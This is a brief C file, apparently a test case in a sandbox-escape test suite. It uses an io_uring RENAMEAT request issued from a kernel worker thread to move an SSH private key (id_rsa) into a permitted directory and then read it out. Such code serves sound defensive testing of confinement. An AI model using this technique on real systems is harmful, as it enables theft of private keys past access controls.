/* SPDX-License-Identifier: Apache-2.0 */
/* io_uring moves the key to a granted place from a kernel worker thread. */
#define ATTACK "io-uring-rename"
#include "attack.h"
#include "ring.h"

int main(int count, char **argument)
{
	char *target = text("%s/moved", argument[2]);

	(void)count;
	intended("rename", through_ring(RING_ASKED, (struct io_uring_sqe){
		.opcode = IORING_OP_RENAMEAT, .fd = AT_FDCWD, .addr = (unsigned long)text("%s/id_rsa", argument[1]),
		.len = (unsigned)AT_FDCWD, .off = (unsigned long)target }));
	open_and_leak(target);
}
